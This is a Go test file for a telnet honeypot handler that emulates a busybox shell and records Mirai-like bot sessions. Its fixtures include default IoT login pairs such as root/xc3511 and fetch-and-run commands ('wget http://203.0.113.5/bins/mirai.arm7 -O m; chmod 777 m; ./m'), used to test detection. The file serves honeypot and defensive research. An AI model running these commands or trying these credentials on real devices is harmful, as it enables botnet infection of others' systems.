package telnet_test

import (
	"bufio"
	"bytes"
	"net"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/handlers"
	"github.com/spoki-telescope/spoki/handlers/generic"
	"github.com/spoki-telescope/spoki/handlers/handlerstest"
	"github.com/spoki-telescope/spoki/handlers/telnet"
)

func TestDecoder(t *testing.T) {
	tests := []struct {
		name      string
		feeds     []string
		wantLines []string
		wantNegs  []string
		window    [2]int
		term      string
	}{
		{"crlf lines", []string{"root\r\nxc3511\r\n"}, []string{"root", "xc3511"}, nil, [2]int{}, ""},
		{"cr nul and lf", []string{"a\r\x00b\nc\r"}, []string{"a", "b", "c"}, nil, [2]int{}, ""},
		{"split across feeds", []string{"ro", "ot\r", "\npw\r\n"}, []string{"root", "pw"}, nil, [2]int{}, ""},
		{"negotiation", []string{"\xff\xfb\x1f\xff\xfd\x01\xff\xfc\x18x\r\n"}, []string{"x"}, []string{"WILL NAWS", "DO ECHO", "WONT TTYPE"}, [2]int{}, ""},
		{"naws and ttype", []string{"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfa\x18\x00xterm\xff\xf0"}, nil, nil, [2]int{80, 24}, "xterm"},
		{"escaped iac", []string{"a\xff\xffb\n"}, []string{"a\xffb"}, nil, [2]int{}, ""},
		{"long line cut", []string{strings.Repeat("x", 20) + "\n"}, []string{strings.Repeat("x", 8)}, nil, [2]int{}, ""},
		{"unnamed option", []string{"\xff\xfd\xc8"}, nil, []string{"DO 200"}, [2]int{}, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := telnet.Decoder{MaxLine: 8}
			var lines, negs []string
			for _, f := range tc.feeds {
				l, n := d.Feed([]byte(f))
				lines = append(lines, l...)
				for _, x := range n {
					negs = append(negs, x.String())
				}
			}
			if !reflect.DeepEqual(lines, tc.wantLines) || !reflect.DeepEqual(negs, tc.wantNegs) {
				t.Errorf("Feed(%q) = %q, %q; want %q, %q", tc.feeds, lines, negs, tc.wantLines, tc.wantNegs)
			}
			if d.Window != tc.window || d.Term != tc.term {
				t.Errorf("Window, Term = %v, %q; want %v, %q", d.Window, d.Term, tc.window, tc.term)
			}
		})
	}
}

func TestShell(t *testing.T) {
	tests := []struct {
		name, line, want string
		exit             bool
	}{
		{"enable", "enable", "", false},
		{"system", "system", "", false},
		{"shell", "shell", "", false},
		{"sh", "sh", "", false},
		{"applet not found", "/bin/busybox ECCHI", "ECCHI: applet not found\r\n", false},
		{"mirai probe", "/bin/busybox cat /proc/mounts; /bin/busybox MIORI", "", false},
		{"echo", `echo "hello world"`, "hello world\r\n", false},
		{"echo -e hex", `/bin/busybox echo -e '\x6b\x61\x6d\x69'`, "kami\r\n", false},
		{"echo -ne", `echo -ne "a\tb"`, "a\tb", false},
		{"unknown", "foo bar", "-sh: foo: not found\r\n", false},
		{"wget", "cd /tmp; wget http://192.0.2.1/x; chmod 777 x; ./x", "wget: can't connect to remote host: Connection refused\r\n-sh: x: not found\r\n", false},
		{"exit", "exit", "", true},
		{"redirect alone", "> /tmp/x", "", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var s telnet.Shell
			got, exit := s.Run(tc.line)
			if tc.name == "mirai probe" {
				if !strings.Contains(got, "/proc proc") || !strings.HasSuffix(got, "MIORI: applet not found\r\n") {
					t.Errorf("Run(%q) = %q", tc.line, got)
				}
				return
			}
			if got != tc.want || exit != tc.exit {
				t.Errorf("Run(%q) = %q, %v; want %q, %v", tc.line, got, exit, tc.want, tc.exit)
			}
		})
	}
	// Files written by echo are read back by cat, as Mirai checks.
	var s telnet.Shell
	s.Run(`/bin/busybox echo -e '\x6b\x61\x6d\x69' > /dev/.nippon; /bin/busybox cat /dev/.nippon`)
	if got, _ := s.Run("cat /dev/.nippon"); got != "kami\r\n" {
		t.Errorf("cat of an echoed file = %q, want kami", got)
	}
}

func FuzzDecoder(f *testing.F) {
	f.Add([]byte("\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n"), []byte("echo -e '\\x41' > /a; cat /a"))
	f.Fuzz(func(t *testing.T, in, line []byte) {
		d := telnet.Decoder{MaxLine: 32}
		lines, _ := d.Feed(in)
		for _, l := range lines {
			if len(l) > 32 {
				t.Fatalf("line of %d bytes over the cap", len(l))
			}
		}
		if len(d.Term) > 64 {
			t.Fatalf("term of %d bytes", len(d.Term))
		}
		var s telnet.Shell
		for i := 0; i < 3; i++ {
			out, _ := s.Run(string(line))
			if len(out) > 2*16<<10 {
				t.Fatalf("output of %d bytes", len(out))
			}
		}
	})
}

// TestBotSession plays a Mirai-like bot against the handler behind a real
// Mux on loopback: the server speaks first after the SpeakFirst wait, the
// credentials and commands are recorded and the wget becomes a downloader
// event.
func TestBotSession(t *testing.T) {
	reg := handlers.NewRegistry(generic.New(generic.Config{}))
	reg.Register(telnet.New(telnet.Config{}), handlers.Matcher{Content: telnet.Match, Ports: telnet.Ports, SpeakFirst: 300 * time.Millisecond})
	ev := &handlerstest.Events{}
	m, rec := handlerstest.NewMux(t, handlers.MuxConfig{Registry: reg, EmitEvent: ev.Emit})
	server, client := handlerstest.TCPPair(t)
	start := time.Now()
	go m.ServeConn(server, handlerstest.Flow(server, 23))
	r := bufio.NewReader(client)
	expect := func(s string) {
		t.Helper()
		client.SetReadDeadline(time.Now().Add(3 * time.Second))
		var got []byte
		for !bytes.Contains(got, []byte(s)) {
			b, err := r.ReadByte()
			if err != nil {
				t.Fatalf("waiting for %q: got %q, %v", s, got, err)
			}
			got = append(got, b)
		}
	}
	send := func(s string) {
		t.Helper()
		if _, err := client.Write([]byte(s)); err != nil {
			t.Fatal(err)
		}
	}
	expect("login: ")
	if w := time.Since(start); w > 2*time.Second {
		t.Errorf("login prompt after %v, want the 300 ms SpeakFirst wait, not the 5 s first-data timeout", w)
	}
	send("\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0") // WONT ECHO, WILL NAWS, NAWS 80x24
	send("root\r\n")
	expect("Password: ")
	send("xc3511\r\n")
	expect("# ")
	for _, cmd := range []string{"enable", "system", "shell", "sh"} {
		send(cmd + "\r\n")
		expect("# ")
	}
	send("/bin/busybox ECCHI\r\n")
	expect("ECCHI: applet not found")
	send("cd /tmp || cd /var/run; wget http://203.0.113.5/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet\r\n")
	expect("# ")
	send("exit\r\n")
	client.SetReadDeadline(time.Now().Add(3 * time.Second))
	_, _ = r.ReadString(0) // until the server closes

	s := rec.Wait(t, 1)[0]
	d, ok := s.Detail.(telnet.Detail)
	if s.AppProto != telnet.Name || !ok {
		t.Fatalf("session %s %T", s.AppProto, s.Detail)
	}
	if len(s.Payload) != 0 {
		t.Errorf("payload %q, want none: the server spoke first", s.Payload)
	}
	want := telnet.Detail{
		Options:     []string{"WONT ECHO", "WILL NAWS"},
		Window:      &[2]int{80, 24},
		Credentials: []telnet.Credential{{"root", "xc3511"}},
		LoggedIn:    true,
		Commands: []string{"enable", "system", "shell", "sh", "/bin/busybox ECCHI",
			"cd /tmp || cd /var/run; wget http://203.0.113.5/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet", "exit"},
	}
	if !reflect.DeepEqual(d, want) {
		t.Errorf("Detail =\n%+v, want\n%+v", d, want)
	}
	evs := ev.Lines()
	if len(evs) != 1 || evs[0]["url"] != "http://203.0.113.5/bins/mirai.arm7" || evs[0]["tool"] != "wget" ||
		evs[0]["event_type"] != "downloader" || evs[0]["source"] != "command" {
		t.Errorf("events = %v", evs)
	}
}

// TestClientSpeaksFirst is a client that does not negotiate (as nc does)
// and sends its credentials before any prompt: the port picks the handler,
// which reads them from First on; the second attempt logs in.
func TestClientSpeaksFirst(t *testing.T) {
	reg := handlers.NewRegistry(generic.New(generic.Config{}))
	reg.Register(telnet.New(telnet.Config{LoginAttempt: 2}), handlers.Matcher{Content: telnet.Match, Ports: telnet.Ports, SpeakFirst: time.Second})
	addr, rec := handlerstest.Serve(t, handlers.MuxConfig{Registry: reg}, 2323)
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.Write([]byte("admin\r\nadmin\r\nroot\r\nvizxv\r\n"))
	time.Sleep(200 * time.Millisecond)
	c.Write([]byte("cat /proc/mounts\r\nexit\r\n"))
	var out bytes.Buffer
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	out.ReadFrom(c)
	if !strings.Contains(out.String(), "Login incorrect") || !strings.Contains(out.String(), "/proc proc") {
		t.Errorf("client saw %q", out.String())
	}
	d := rec.Wait(t, 1)[0].Detail.(telnet.Detail)
	if want := []telnet.Credential{{"admin", "admin"}, {"root", "vizxv"}}; !reflect.DeepEqual(d.Credentials, want) || !d.LoggedIn {
		t.Errorf("Credentials = %v (logged in %v), want %v", d.Credentials, d.LoggedIn, want)
	}
}
